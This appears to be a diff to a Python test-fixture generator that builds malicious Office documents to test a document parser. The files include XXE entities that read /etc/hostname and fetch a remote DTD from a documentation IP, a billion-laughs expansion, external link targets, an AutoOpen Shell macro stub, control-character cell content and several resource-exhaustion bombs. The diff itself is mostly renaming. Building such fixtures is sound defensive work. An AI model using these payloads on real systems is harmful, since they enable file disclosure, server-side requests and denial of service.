@@ -21,7 +21,8 @@ _LAUGHS = b"<!DOCTYPE x [<!ENTITY a0 'ha'>" + b"".join(
     b"<!ENTITY a%d '%b'>" % (i + 1, b"&a%d;" % i * 10) for i in range(12)
 ) + b"]>"  # fmt: skip
 _OUTSIDE = (
-    b"<!DOCTYPE x [<!ENTITY luar SYSTEM 'file:///etc/hostname'><!ENTITY % jauh SYSTEM 'http://192.0.2.1/x'> %jauh;]>"
+    b"<!DOCTYPE x [<!ENTITY luar SYSTEM 'file:///etc/hostname'>"
+    b"<!ENTITY % jauh SYSTEM 'http://192.0.2.1/x'> %jauh;]>"
 )
 
 
@@ -48,13 +49,13 @@ def _xlsx() -> bytes:
     return container.getvalue()
 
 
-def _with(package: bytes, replaced: Mapping[str, bytes]) -> bytes:
+def with_parts(package: bytes, replaced: Mapping[str, bytes]) -> bytes:
     """The package with these parts replaced or added."""
     with zipfile.ZipFile(io.BytesIO(package)) as old:
         return fixed_zip({**{name: old.read(name) for name in old.namelist()}, **replaced})
 
 
-def _part(package: bytes, name: str) -> bytes:
+def part_of(package: bytes, name: str) -> bytes:
     with zipfile.ZipFile(io.BytesIO(package)) as archive:
         return archive.read(name)
 
@@ -80,7 +81,7 @@ def _cell(content: bytes) -> bytes:
 
 
 def _relations(package: bytes, name: str, surplus: bytes) -> bytes:
-    return _part(package, name).replace(b"</Relationships>", surplus + b"</Relationships>")
+    return part_of(package, name).replace(b"</Relationships>", surplus + b"</Relationships>")
 
 
 def _outside_word(word: bytes) -> bytes:
@@ -90,12 +91,11 @@ def _outside_word(word: bytes) -> bytes:
         b'<Relationship Id="rM%d" Type="%b%b" Target="http://192.0.2.1/%b" TargetMode="External"/>' % (i, kind, n, n)
         for i, n in enumerate((b"attachedTemplate", b"image", b"hyperlink", b"header"))
     )
-    picture = (
-        b'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:href="rM1"/></v:shape>'
-    )
-    content = _paragraph(b"PERJANJIAN KINERJA") + picture + b"</w:pict></w:r></w:p>"
+    shape = b'<v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:href="rM1"/></v:shape>'
+    picture = b"<w:p><w:r><w:pict>" + shape + b"</w:pict></w:r></w:p>"
+    content = _paragraph(b"PERJANJIAN KINERJA") + picture
     name = "word/_rels/document.xml.rels"
-    return _with(word, {name: _relations(word, name, surplus), "word/document.xml": _body(content)})
+    return with_parts(word, {name: _relations(word, name, surplus), "word/document.xml": _body(content)})
 
 
 def _outside_excel(excel: bytes) -> bytes:
@@ -107,7 +107,7 @@ def _outside_excel(excel: bytes) -> bytes:
     link = b'%b<externalLink xmlns="%b" xmlns:r="%b"><externalBook r:id="rId1"/></externalLink>'
     outside = b'<Relationship Id="rId1" Type="%b/externalLinkPath" Target="http://192.0.2.1/a.xlsx"' % _RELS
     package = b'%b<Relationships xmlns="%b">%b TargetMode="External"/></Relationships>' % (_HEADER, _PACKAGE, outside)
-    return _with(excel, {
+    return with_parts(excel, {
         "xl/worksheets/sheet1.xml": _sheet(fraction),
         name: _relations(excel, name, surplus),
         "xl/externalLinks/externalLink1.xml": link % (_HEADER, _SHEET, _RELS),
@@ -115,14 +115,20 @@ def _outside_excel(excel: bytes) -> bytes:
     })  # fmt: skip
 
 
+def word_document(content: bytes) -> bytes:
+    """A Word document with this body."""
+    return with_parts(_docx(), {"word/document.xml": _body(content)})
+
+
 def _with_macro(package: bytes, part: str, usual: bytes, macro: bytes) -> bytes:
-    kind = _part(package, "[Content_Types].xml").replace(usual, macro)
+    kind = part_of(package, "[Content_Types].xml").replace(usual, macro)
     vba = b'<Override PartName="/%b/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
     kind = kind.replace(b"</Types>", vba % part.encode() + b"</Types>")
-    return _with(package, {"[Content_Types].xml": kind, f"{part}/vbaProject.bin": b"Sub AutoOpen() Shell"})
+    return with_parts(package, {"[Content_Types].xml": kind, f"{part}/vbaProject.bin": b"Sub AutoOpen() Shell"})
 
 
-def _nested_table(inner: int) -> bytes:
+def nested_table(inner: int) -> bytes:
+    """So many tables, each within a cell of the one before."""
     opened, closing = b"<w:tbl><w:tr><w:tc>", b"<w:p/></w:tc></w:tr></w:tbl>"
     return opened * inner + _paragraph(b"dalam sekali") + closing * inner
 
@@ -143,24 +149,24 @@ def make() -> dict[str, bytes]:
         b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
     )
     return {
-        "xxe.docx": _with(word, {body: _body(_paragraph(b"&luar;"), _OUTSIDE)}),
-        "tawa.docx": _with(word, {body: _body(_paragraph(b"&a12;"), _LAUGHS)}),
-        "xxe.xlsx": _with(excel, {sheet: _sheet(_cell(b"&luar;"), _OUTSIDE)}),
-        "tawa.xlsx": _with(excel, {sheet: _sheet(_cell(b"&a12;"), _LAUGHS)}),
+        "xxe.docx": with_parts(word, {body: _body(_paragraph(b"&luar;"), _OUTSIDE)}),
+        "tawa.docx": with_parts(word, {body: _body(_paragraph(b"&a12;"), _LAUGHS)}),
+        "xxe.xlsx": with_parts(excel, {sheet: _sheet(_cell(b"&luar;"), _OUTSIDE)}),
+        "tawa.xlsx": with_parts(excel, {sheet: _sheet(_cell(b"&a12;"), _LAUGHS)}),
         "tautan_luar.docx": _outside_word(word),
         "tautan_luar.xlsx": _outside_excel(excel),
         "makro.docm": _with_macro(word, "word", *_MACRO["docm"]),
         "makro.xlsm": _with_macro(excel, "xl", *_MACRO["xlsm"]),
-        "tabel_bersarang.docx": _with(word, {body: _body(_nested_table(5_000))}),
-        "tabel_dalam_tabel.docx": _with(word, {body: _body(_nested_table(60))}),
-        "teks_panjang.docx": _with(word, {body: _body(_paragraph(b"kata demi kata ") * 6_000)}),
-        "skrip.docx": _with(word, {body: _body(text)}),
-        "xml_bersarang.xlsx": _with(excel, {sheet: _sheet(b"<a>" * 300_000 + b"</a>" * 300_000)}),
-        "sel_jauh.xlsx": _with(excel, {sheet: _sheet(far)}),
-        "sel_gabung.xlsx": _with(excel, {sheet: merged}),
-        "sel_banyak.xlsx": _with(excel, {sheet: _sheet(_many_cells(11_000, 100))}),
-        "lembar_banyak.xlsx": _with(excel, {sheet: _sheet(_many_cells(100, 99))}
+        "tabel_bersarang.docx": with_parts(word, {body: _body(nested_table(5_000))}),
+        "tabel_dalam_tabel.docx": with_parts(word, {body: _body(nested_table(60))}),
+        "teks_panjang.docx": with_parts(word, {body: _body(_paragraph(b"kata demi kata ") * 6_000)}),
+        "skrip.docx": with_parts(word, {body: _body(text)}),
+        "xml_bersarang.xlsx": with_parts(excel, {sheet: _sheet(b"<a>" * 300_000 + b"</a>" * 300_000)}),
+        "sel_jauh.xlsx": with_parts(excel, {sheet: _sheet(far)}),
+        "sel_gabung.xlsx": with_parts(excel, {sheet: merged}),
+        "sel_banyak.xlsx": with_parts(excel, {sheet: _sheet(_many_cells(11_000, 100))}),
+        "lembar_banyak.xlsx": with_parts(excel, {sheet: _sheet(_many_cells(100, 99))}
                                       | {f"xl/worksheets/{i}.xml": b" " * 9_999_999 for i in range(20)}),
-        "sel_kendali.xlsx": _with(excel, {sheet: _sheet(_cell(b"_x001B_[31mSASARAN_x0007__x202E_ &lt;script>"))}),
-        "bom_bagian.docx": _with(word, {body: b" " * (40 << 20)}),
+        "sel_kendali.xlsx": with_parts(excel, {sheet: _sheet(_cell(b"_x001B_[31mSASARAN_x0007__x202E_ &lt;script>"))}),
+        "bom_bagian.docx": with_parts(word, {body: b" " * (40 << 20)}),
     }  # fmt: skip
